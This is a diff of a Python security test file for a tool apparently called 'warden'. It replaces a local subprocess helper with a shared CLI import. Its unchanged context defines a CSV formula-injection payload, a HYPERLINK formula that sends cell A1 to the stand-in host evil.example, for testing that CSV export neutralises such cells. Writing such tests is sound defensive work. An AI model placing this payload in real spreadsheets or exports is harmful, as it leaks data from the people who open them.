@@ -14,13 +14,12 @@ from __future__ import annotations
 import csv
 import io
 import os
-import subprocess
-import sys
 import time
 from pathlib import Path
 from typing import Any
 
 import pytest
+from tests.attacks._cli import warden_cli
 from tests.service._acme_tree import acme_copy
 
 from warden.errors import WardenError
@@ -32,13 +31,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
 """A spreadsheet formula: Excel and LibreOffice evaluate a CSV cell that starts with = + - @."""
 
 
-def _warden(home: Path, policy: Path, *args: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "WARDEN_HOME": str(home), "WARDEN_POLICY": str(policy)}
-    env.pop("WARDEN_SERVER", None)
-    env.pop("WARDEN_TOKEN", None)
-    return subprocess.run(
-        [sys.executable, "-m", "warden", *args], env=env, capture_output=True, text=True, timeout=300
-    )
+_warden = warden_cli
 
 
 # --- 1. CSV formula injection: `warden ropa --format csv` ------------------------------------
